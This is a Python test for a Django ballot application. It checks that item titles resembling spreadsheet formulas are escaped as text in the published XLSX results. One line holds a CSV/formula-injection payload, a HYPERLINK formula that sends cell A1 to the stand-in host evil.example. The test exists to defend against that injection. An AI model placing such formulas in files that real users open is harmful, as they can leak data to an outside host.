"""The public result sheet: names that look like formulas stay text when the sheet is opened."""

import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from ballots.services.rounds import round_close, round_create
from tests.conftest import Cast, client_for
from tests.voting import cast_ballot, make_session, open_with_cards

TRAP = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")'


def test_an_item_titled_like_a_formula_is_written_as_text(cast: Cast) -> None:
    session = make_session(cast.body, seats=3)
    round_ = round_create(
        session=session,
        code="R1",
        kind="selection",
        secrecy="secret",
        to_select=1,
        max_yes=None,
        items=[("P1", 1, TRAP, None), ("P2", 2, "@SUM(1,2)", None), ("P3", 3, "路灯", None)],
    )
    for card in open_with_cards(round_):
        cast_ballot("R1", card.code, {"P1": "yes"})
    round_close(round_=round_)
    client_for(cast.congress).post(
        reverse("round_act", kwargs={"body": cast.body.slug, "code": "R1", "action": "publish"})
    )
    content = Client().get(reverse("results_download", kwargs={"code": "R1", "kind": "xlsx"}))
    sheet = load_workbook(io.BytesIO(content.content)).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (TRAP, "@SUM(1,2)"):
        assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True)
    assert cells["路灯"].quotePrefix is False
